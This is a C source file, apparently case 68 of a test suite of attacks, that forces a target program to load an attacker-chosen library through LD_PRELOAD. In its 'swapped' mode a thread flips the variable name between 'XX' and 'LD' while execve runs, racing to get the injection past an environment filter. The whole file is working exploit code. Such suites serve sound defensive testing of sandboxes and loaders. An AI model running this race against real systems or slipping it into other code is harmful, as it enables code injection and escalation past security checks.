// 68: makes the program that it runs load a library: preload PROGRAM LIBRARY (plain | swapped). Swapped, another thread puts the variable there
// while the exec is under way.
#include "attack.h"
#include <pthread.h>

static char variable[PATH_MAX + 16], harmless[PATH_MAX + 16], wanted[PATH_MAX + 16];
static char **arguments, *environment[4];

static int execute(void) {
  execve(arguments[0], arguments, environment);
  _exit(111);
}

static void *swap(void *data) {
  (void)data;
  for (volatile char *const start = variable;;) {
    start[0] = 'L', start[1] = 'D';
    for (volatile int spin = 0; spin < 20000; spin++) continue;
    start[0] = 'X', start[1] = 'X';
    for (volatile int spin = 0; spin < 20000; spin++) continue;
  }
  return NULL;
}

int main(int argc, char **argv) {
  if (argc < 4) return 2;
  const bool swapped = !strcmp(argv[3], "swapped");
  snprintf(wanted, sizeof wanted, "LD_PRELOAD=%s", argv[2]);
  snprintf(harmless, sizeof harmless, "XX%s", wanted + 2);
  strcpy(variable, swapped ? harmless : wanted);
  static char *program[2];
  program[0] = argv[1];
  arguments = program;
  environment[0] = variable;
  environment[1] = swapped ? NULL : "LD_AUDIT=/nowhere";
  if (!swapped) return execute();
  for (int round = 0; round < 40; round++) {
    const pid_t child = fork();
    if (child == 0) {
      pthread_t thread;
      pthread_create(&thread, NULL, swap, NULL);
      usleep((useconds_t)(round * 50));
      execute();
    }
    waitpid(child, NULL, 0);
  }
  return 0;
}
